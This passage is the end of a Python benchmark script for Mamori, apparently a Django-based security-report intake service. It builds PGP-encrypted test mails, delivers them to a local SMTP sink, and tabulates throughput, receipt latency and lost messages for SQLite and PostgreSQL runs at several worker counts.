        "lost": lost,
    }


def run_round(database_url: str, workers: int) -> dict[str, Any]:
    import django
    from aiosmtpd.controller import Controller
    from tests import gpg_keys

    engine = "postgresql" if database_url else "sqlite"
    label = f"{engine}, {workers} worker{'s' if workers > 1 else ''}"
    os.environ["_MAMORI_BENCH_LABEL"] = label
    with contextlib.ExitStack() as stack:
        team = stack.enter_context(gpg_keys.identity("Mamori PSIRT <security@example.org>"))
        reporter = stack.enter_context(gpg_keys.identity("Bench Reporter <bench@example.net>"))
        built = time.perf_counter()
        mails = corpus(MESSAGES, team, reporter)
        built = time.perf_counter() - built
        print(f"[{label}] corpus built in {built:.1f} s (PGP encryption included)", file=sys.stderr)
        sink = ReceiptSink()
        receiving = Controller(sink, hostname="127.0.0.1", port=free_port())
        receiving.start()
        stack.callback(receiving.stop)
        data = stack.enter_context(installation(database_url, team.home, receiving.port))
        django.setup()  # its logging configuration would print the sink's SMTP dialogue
        logging.getLogger("mail.log").setLevel(logging.WARNING)
        bare = baseline(mails, data)
        sent = mamori_round(mails, data, workers, sink)
        summary = report(label, bare, outcomes(sent, sink), sink)
        if summary["lost"]:
            (data / "KEEP").touch()
        return summary


# --- Entry points ------------------------------------------------------------------------------


def _exit_on_sigterm() -> None:
    signal.signal(signal.SIGTERM, lambda signum, _frame: sys.exit(128 + signum))


def child() -> int:
    _exit_on_sigterm()
    sys.path.insert(0, str(ROOT))
    summary = run_round(
        os.environ["MAMORI_BENCH_DATABASE_URL"], int(os.environ["_MAMORI_BENCH_WORKERS"])
    )
    Path(os.environ["_MAMORI_BENCH_RESULT"]).write_text(json.dumps(summary))
    return 1 if summary["lost"] else 0


def main() -> int:
    if os.environ.get("_MAMORI_BENCH_CHILD"):
        return child()
    _exit_on_sigterm()
    targets = [""]
    if os.environ.get("MAMORI_BENCH_DATABASE_URL"):
        targets.append(os.environ["MAMORI_BENCH_DATABASE_URL"])
    summaries, failures = [], 0
    with tempfile.TemporaryDirectory(prefix="mamori-bench-") as scratch:
        for url in targets:
            for workers in WORKERS:
                result = Path(scratch) / f"{len(summaries) + failures}.json"
                env = {
                    **os.environ,
                    "_MAMORI_BENCH_CHILD": "1",
                    "MAMORI_BENCH_DATABASE_URL": url,
                    "_MAMORI_BENCH_WORKERS": str(workers),
                    "_MAMORI_BENCH_RESULT": str(result),
                }
                one = subprocess.Popen([sys.executable, __file__], env=env)
                try:
                    failures += one.wait() != 0
                finally:
                    stop(one)
                if result.exists():
                    summaries.append(json.loads(result.read_text()))
    print(
        "| round | SMTP floor | Mamori SMTP rate | all cases at (s) | end-to-end rate "
        "| send→receipt p50 (s) | p99 (s) | lost |"
    )
    print("|---|---:|---:|---:|---:|---:|---:|---:|")
    for s in summaries:
        print(
            f"| {s['label']} | {s['floor']:.0f} | {s['rate']:.0f} | {s['cases_at']:.0f} "
            f"| {s['e2e']:.1f} "
            f"| {s['receipt_p50']} | {s['receipt_p99']} | {s['lost']} |"
        )
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
